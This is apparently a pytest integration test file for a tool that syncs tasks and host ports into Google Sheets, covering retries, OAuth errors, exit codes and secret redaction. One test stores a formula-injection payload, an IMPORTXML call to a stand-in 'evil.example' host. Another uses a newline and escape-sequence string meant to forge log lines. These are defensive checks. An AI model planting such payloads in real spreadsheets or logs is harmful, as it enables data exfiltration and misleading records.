"""``sheet-sync`` against the fake: tabs, constant request count, idempotence, log lines, exit codes."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import yaml

from agent import config
from agent.sheets import run_sync
from agent.sheets.ports import Listener
from agent.store import open_store
from tests.fakes.google import FakeGoogle
from tests.integration.google.conftest import (
    SHEET,
    assert_no_secret,
    closed_port,
    write_secret_file,
)

PORTS = [Listener(22, "tcp", "0.0.0.0", "sshd", "ssh.service")]


def fixed_ports() -> list[Listener]:
    return list(PORTS)


def sync(s: config.Settings, lines: list[str] | None = None, **kw):
    out = lines if lines is not None else []
    return run_sync(s, ports=fixed_ports, log=out.append, **kw)


def add_tasks(s: config.Settings, n: int) -> None:
    with open_store(s) as store:
        for i in range(n):
            store.add_task(f"task {i}", priority=i % 3)


def test_the_first_sync_creates_the_four_tabs_and_fills_them(installed, fake: FakeGoogle):
    s, _ = installed()
    add_tasks(s, 3)
    with open_store(s) as store:
        sess = store.start_session(1)
        store.finish_session(sess.id, "max_turns", turns=30)
    lines: list[str] = []
    r = sync(s, lines)
    assert r.exit_code == 0
    assert fake.sheet_titles(SHEET) == ["Sheet1", "Sessions", "Tasks", "Ports", "Deployment"]
    tasks = fake.get_values(SHEET, "Tasks")
    assert tasks[0] == ["ID", "Title", "Status", "Priority", "Updated (UTC)"]
    assert [row[:4] for row in tasks[1:]] == [
        ["1", "task 0", "ready", "0"],
        ["2", "task 1", "ready", "1"],
        ["3", "task 2", "ready", "2"],
    ]
    today = datetime.now(UTC).date().isoformat()
    assert fake.get_values(SHEET, "Sessions")[1] == [today, "1 / 5", "max_turns=1", "30"]
    assert fake.get_values(SHEET, "Ports")[1] == ["22", "tcp", "0.0.0.0", "sshd", "ssh.service"]
    dep = fake.get_values(SHEET, "Deployment")[1]
    assert dep[0] == "test-host" and dep[1]
    assert re.fullmatch(r"\[port-sheet\] sync ok rows=\d+ requests=3 in \d+\.\d\ds", lines[0])


def test_a_rerun_with_unchanged_data_writes_nothing(installed, fake: FakeGoogle):
    s, _ = installed()
    add_tasks(s, 5)
    sync(s)
    fake.clear_log()
    r = sync(s)
    assert r.exit_code == 0
    kinds = [e["kind"] for e in fake.requests("sheets.")]
    assert kinds == ["sheets.spreadsheets.get", "sheets.values.batchGet"]
    assert r.requests == 2
    assert r.written_tabs == []


def test_the_request_count_is_constant_whatever_the_row_count(installed, fake: FakeGoogle):
    s, _ = installed()
    sync(s)  # tabs exist from here on
    counts = {}
    for n in (1, 200, 2000):
        add_tasks(s, n)
        counts[n] = sync(s).requests
    assert set(counts.values()) == {3}, counts


def test_stale_rows_are_cleared_when_the_data_shrinks(installed, fake: FakeGoogle):
    s, _ = installed()
    add_tasks(s, 6)
    sync(s)
    with open_store(s) as store:
        store.db.execute("DELETE FROM tasks WHERE id > 2")
        store.db.commit()
    fake.clear_log()
    r = sync(s)
    assert r.requests == 3
    assert len(fake.get_values(SHEET, "Tasks")) == 3  # header + 2
    assert "sheets.values.batchClear" not in [e["kind"] for e in fake.requests()]


def test_foreign_cells_in_an_owned_tab_are_overwritten(installed, fake: FakeGoogle):
    s, _ = installed()
    sync(s)
    fake.sheets_failures.clear()
    fake.spreadsheets[SHEET].find("Ports").cells[(40, 10)] = "typed by hand"
    sync(s)
    assert fake.get_values(SHEET, "Ports") == [
        ["Port", "Protocol", "Address", "Process", "Unit"],
        ["22", "tcp", "0.0.0.0", "sshd", "ssh.service"],
    ]


def test_a_429_is_retried_and_the_sync_then_succeeds(installed, fake: FakeGoogle):
    s, _ = installed()
    fake.fail_sheets(429, count=2)
    lines: list[str] = []
    r = sync(s, lines)
    assert r.exit_code == 0
    assert r.requests == 5  # 2 refused gets + get + addSheet + values write


def test_429s_beyond_the_retry_budget_exit_3_with_an_api_error_line(installed, fake: FakeGoogle):
    s, _ = installed()
    fake.fail_sheets(429, count=10)
    lines: list[str] = []
    r = sync(s, lines)
    assert r.exit_code == 3
    assert lines == ["[port-sheet] api error: HTTP 429 Injected failure 429."]
    assert r.requests == 3  # one try + max_retries=2, then it stops


def test_5xx_beyond_the_retry_budget_exit_3(installed, fake: FakeGoogle):
    s, _ = installed()
    fake.fail_sheets(503, count=10)
    r = sync(s)
    assert r.exit_code == 3
    assert r.error_class == "http_503"


def test_an_unreachable_sheets_api_is_a_transient_error(installed):
    s, _ = installed(sheets={"endpoint": f"http://127.0.0.1:{closed_port()}/"})
    lines: list[str] = []
    r = sync(s, lines)
    assert r.exit_code == 3
    assert lines[0].startswith("[port-sheet] transient error: Sheets API unreachable")


def test_a_sheets_timeout_is_retried_then_transient(installed, fake: FakeGoogle):
    s, _ = installed(sheets={"timeout": 0.3})
    fake.delay_sheets(1.0, count=3)
    r = sync(s)
    assert r.exit_code == 3
    assert r.error_class == "network"


def test_a_revoked_token_logs_the_historical_line_and_exits_2(installed, fake: FakeGoogle):
    s, _token = installed()
    fake.revoke_all()
    lines: list[str] = []
    r = sync(s, lines)
    assert r.exit_code == 2
    assert lines == [
        "[port-sheet] token error: HTTP Error 400: invalid_grant: Token has been expired or revoked."
    ]
    assert fake.requests("sheets.") == []  # no API call once the token is known dead
    assert [e["kind"] for e in fake.requests("token")] == ["token.refresh_token"]  # no retry


def test_a_deleted_client_logs_the_401_line_and_exits_2(installed, fake: FakeGoogle):
    s, token = installed()
    fake.delete_client(token["client_id"])
    lines: list[str] = []
    assert sync(s, lines).exit_code == 2
    assert lines == [
        "[port-sheet] token error: HTTP Error 401: deleted_client: The OAuth client was deleted."
    ]


def test_an_unknown_client_logs_the_invalid_client_line(gsettings, fake: FakeGoogle):
    s = gsettings()
    token = fake.issue_refresh_token()
    write_secret_file(Path(s.google.token_file), {**token, "client_id": "gone.apps"})
    lines: list[str] = []
    assert sync(s, lines).exit_code == 2
    assert lines == [
        "[port-sheet] token error: HTTP Error 401: invalid_client: The OAuth client was not found."
    ]


def test_a_token_revoked_mid_run_fails_as_a_credential_error(installed, fake: FakeGoogle):
    s, _ = installed()
    sync(s)
    # The access token dies with the grant: the API answers 401, the client refreshes, fails.
    fake.fail_sheets(401)
    fake.revoke_all()
    lines: list[str] = []
    r = sync(s, lines)
    assert r.exit_code == 2
    assert "invalid_grant" in lines[0]


def test_a_sheet_not_shared_with_the_identity_is_a_credential_error(installed, fake: FakeGoogle):
    s, _ = installed()
    fake.forbid("operator@example.com")
    lines: list[str] = []
    assert sync(s, lines).exit_code == 2
    assert lines == ["[port-sheet] api error: HTTP 403 The caller does not have permission"]


def test_a_missing_spreadsheet_is_another_error_exit_1(installed):
    s, _ = installed(sheets={"spreadsheet_id": "no-such-sheet"})
    lines: list[str] = []
    assert sync(s, lines).exit_code == 1
    assert lines == ["[port-sheet] api error: HTTP 404 Requested entity was not found."]


def test_a_token_endpoint_outage_is_transient_exit_3(installed, fake: FakeGoogle):
    s, _ = installed(google={"token_uri": f"http://127.0.0.1:{closed_port()}/token"})
    lines: list[str] = []
    assert sync(s, lines).exit_code == 3
    assert lines[0].startswith("[port-sheet] transient error: token endpoint unreachable")


def test_each_run_is_recorded_in_the_store(installed, fake: FakeGoogle):
    s, _ = installed()
    sync(s)
    fake.revoke_all()
    sync(s)
    with open_store(s) as store:
        runs = store.list_sync_runs()
    got = sorted((r.outcome, r.requests, r.error_class) for r in runs)
    assert got == [("credential_error", 0, "revoked_or_expired"), ("ok", 3, None)]
    assert all(r.finished and r.finished >= r.started for r in runs)


def test_a_service_account_syncs(gsettings, fake: FakeGoogle, service_account):
    s = gsettings(google={"credential_type": "service_account"})
    write_secret_file(Path(s.google.service_account_file), service_account)
    assert sync(s).exit_code == 0
    assert [e["kind"] for e in fake.requests("token")] == ["token.jwt-bearer"]


def test_the_real_host_ports_include_a_socket_this_process_listens_on(installed, fake):
    s, _ = installed()
    lines: list[str] = []
    assert run_sync(s, log=lines.append).exit_code == 0
    ports = fake.get_values(SHEET, "Ports")
    assert [str(fake.port), "tcp", "127.0.0.1"] in [row[:3] for row in ports]


# ------------------------------------------------------------------ the command


def test_the_command_prints_one_line_and_exits_with_the_outcome(installed, fake, tmp_path):
    s, token = installed()
    cfg = tmp_path / "agent.yml"
    cfg.write_text(yaml.safe_dump(config.to_dict(s)))
    cmd = [sys.executable, "-m", "agent", "-c", str(cfg), "sheet-sync"]
    ok = subprocess.run(cmd, capture_output=True, text=True, timeout=60, check=False)
    assert ok.returncode == 0, ok.stderr
    assert re.fullmatch(r"\[port-sheet\] sync ok rows=\d+ requests=\d in \d+\.\d\ds\n", ok.stdout)
    fake.revoke_all()
    bad = subprocess.run(cmd, capture_output=True, text=True, timeout=60, check=False)
    assert bad.returncode == 2
    assert bad.stdout == (
        "[port-sheet] token error: HTTP Error 400: invalid_grant: Token has been expired or "
        "revoked.\n"
    )
    js = subprocess.run([*cmd, "--json"], capture_output=True, text=True, timeout=60, check=False)
    assert js.returncode == 2
    assert json.loads(js.stdout)["error_class"] == "revoked_or_expired"
    assert_no_secret(ok.stdout + ok.stderr + bad.stdout + bad.stderr + js.stdout + js.stderr, token)


def test_a_newline_in_the_endpoints_error_description_cannot_forge_a_line(
    installed, fake: FakeGoogle, tmp_path
):
    s, _token = installed()
    cfg = tmp_path / "agent.yml"
    cfg.write_text(yaml.safe_dump(config.to_dict(s)))
    forged = "Bad\n[port-sheet] sync ok rows=1 requests=1 in 0.01s\r\x1b[2K\u2028x"
    fake.fail_token("invalid_grant", description=forged)
    cmd = [sys.executable, "-m", "agent", "-c", str(cfg), "sheet-sync"]
    bad = subprocess.run(cmd, capture_output=True, text=True, timeout=60, check=False)
    assert bad.returncode == 2
    lines = bad.stdout.splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith("[port-sheet] token error: HTTP Error 400: invalid_grant: Bad")
    assert "\\n[port-sheet] sync ok" in lines[0] and "\\x1b[2K" in lines[0]
    assert "\\u2028" in lines[0]


def test_no_secret_reaches_the_log_line_even_in_an_odd_error(gsettings, fake: FakeGoogle):
    s = gsettings()
    token = fake.issue_refresh_token()
    # A token file whose secret sits where an error message might echo it.
    write_secret_file(Path(s.google.token_file), {**token, "type": token["refresh_token"]})
    lines: list[str] = []
    r = sync(s, lines)
    assert r.exit_code == 2
    assert_no_secret(lines[0], token)
    assert os.stat(s.google.token_file).st_mode & 0o777 == 0o600


def test_an_add_sheet_whose_answer_was_lost_is_not_an_error_on_retry(installed, fake):
    s, _ = installed(sheets={"timeout": 0.3, "retry_base_delay": 0.8})
    fake.delay_sheets(0, count=1)  # spreadsheets.get answers at once
    fake.delay_sheets(0.5, count=1)  # addSheet is applied after the client gave up
    r = sync(s)
    assert r.exit_code == 0, r.message
    adds = [e["status"] for e in fake.requests("sheets.spreadsheets.batchUpdate")]
    assert adds == [200, 400]  # the first (unanswered) one applied; the retry found the tabs
    assert fake.sheet_titles(SHEET) == ["Sheet1", "Sessions", "Tasks", "Ports", "Deployment"]


def test_an_unexpected_failure_is_one_line_one_record_and_exit_1(installed):
    s, _ = installed()

    def broken_ports() -> list[Listener]:
        raise KeyError("inode")

    lines: list[str] = []
    r = run_sync(s, ports=broken_ports, log=lines.append)
    assert r.exit_code == 1
    assert lines == ["[port-sheet] error: KeyError: 'inode'"]
    with open_store(s) as store:
        assert [x.outcome for x in store.list_sync_runs()] == ["error"]


def test_a_missing_spreadsheet_id_names_the_setting(installed):
    s, _ = installed(sheets={"spreadsheet_id": ""})
    lines: list[str] = []
    assert sync(s, lines).exit_code == 1
    assert "sheets.spreadsheet_id: expected a spreadsheet ID" in lines[0]


def test_a_task_title_that_looks_like_a_formula_is_written_as_text(installed, fake):
    s, _ = installed()
    with open_store(s) as store:
        store.add_task('=IMPORTXML("http://evil.example/", "//a")')
    sync(s)
    # The fake turns USER_ENTERED "=..." into a formula (shown as #NAME?), as Sheets would.
    assert fake.get_values(SHEET, "Tasks")[1][1] == '=IMPORTXML("http://evil.example/", "//a")'


def test_a_world_readable_token_is_refused_with_a_permission_line(installed, fake: FakeGoogle):
    s, _ = installed()
    token = Path(s.google.token_file)
    token.chmod(0o644)
    lines: list[str] = []
    r = sync(s, lines)
    assert r.exit_code == 2
    assert lines == [
        f"[port-sheet] permission error: {token} has mode 0644, readable beyond its owner;"
        " refusing it until it is 0600"
    ]
    assert fake.requests("token") == []  # refused before any use of the token
    token.chmod(0o600)
    assert sync(s).exit_code == 0
